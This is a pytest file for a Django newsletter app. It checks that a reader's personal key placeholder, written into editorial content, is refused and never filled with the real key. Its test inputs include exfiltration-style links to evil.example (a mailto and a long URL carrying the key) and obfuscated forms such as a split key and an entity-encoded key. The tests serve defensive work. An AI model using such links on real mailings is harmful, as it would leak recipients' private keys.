"""The place of a reader's key is the layout's: whoever writes it into a text gets nobody's key."""

import pytest

from networks.models import Network
from newsletters import frames
from newsletters.composing import KEY, Skeleton
from newsletters.models import Edition
from newsletters.rendering import blocks_of, rendered
from newsletters.services import freezing
from newsletters.services.checking import problems_of
from tests.factories import make_network, make_practice
from tests.newsletters.factories_campaigns import make_block, make_campaign, make_reader

pytestmark = pytest.mark.django_db
OWN = "k" * len(KEY)


@pytest.fixture(autouse=True)
def _site(settings):
    settings.SITE_URL = "https://hub.example"
    settings.DEFAULT_FROM_EMAIL = "City Networks Hub <hub@hub.example>"


@pytest.fixture
def network():
    return make_network("nordic", name_en="Nordic cities")


def keys_in(campaign):
    """How often the reader's own key stands in each part of what is sent: (HTML, text, all bytes)."""
    freezing.freeze(campaign)
    edition = Edition.objects.get()
    mail = Skeleton(edition, frames.frame_of(edition)).filled("ada@city.example", OWN, "<1@hub.example>")
    return edition.html.count(KEY), edition.text.count(KEY), mail.count(OWN.encode())


@pytest.mark.parametrize(
    "values",
    [
        {"heading_en": f"Hello {KEY}"},
        {"text_en": f'<p><a href="mailto:x@evil.example?body={KEY}">write</a></p>'},
        {"text_en": f'<p><a href="https://evil.example/{"a" * 1000}?{KEY}">look</a></p>'},
        {"text_en": f"<p>{KEY[:9]}<strong>{KEY[9:]}</strong></p>"},
        {"text_en": f"<p>&#82;{KEY[1:]}</p>"},
    ],
    ids=["heading", "mailto", "long link", "in two pieces", "as an entity"],
)
def test_place_of_the_key_in_an_own_text_is_refused_and_never_filled(network, values):
    make_reader(network=network)
    plain = make_campaign(network=network, subject_en="News")
    expected = keys_in(plain)
    plain.editions.all().delete()
    campaign = make_campaign(network=network, subject_en="News")
    make_block(campaign, **values)
    assert [(problem.code, problem.language) for problem in problems_of(campaign)] == [("key", "en")]
    assert keys_in(campaign) == expected


def test_place_of_the_key_in_subject_and_preview_line_is_refused_and_never_filled(network):
    make_reader(network=network)
    campaign = make_campaign(network=network, subject_en=KEY, preheader_en=KEY)
    assert [problem.code for problem in problems_of(campaign)] == ["key-in-subject"]
    mail = rendered(campaign, "en", blocks_of(campaign))
    assert (mail.subject, mail.preheader) == ("…", "…")


def test_place_of_the_key_in_a_practice_is_refused_and_never_filled(network):
    make_reader(network=network)
    expected = keys_in(make_campaign(network=network))
    Edition.objects.all().delete()
    campaign = make_campaign(network=network)
    make_block(campaign, "practice", practice=make_practice(title_en=KEY))
    assert [problem.code for problem in problems_of(campaign)] == ["key"]
    assert keys_in(campaign) == expected


def test_name_of_the_network_gets_no_key(network):
    expected = keys_in(make_campaign(network=network))
    Edition.objects.all().delete()
    Network.objects.update(name_en=f"Cities {KEY}")
    network.refresh_from_db()
    assert keys_in(make_campaign(network=network)) == expected
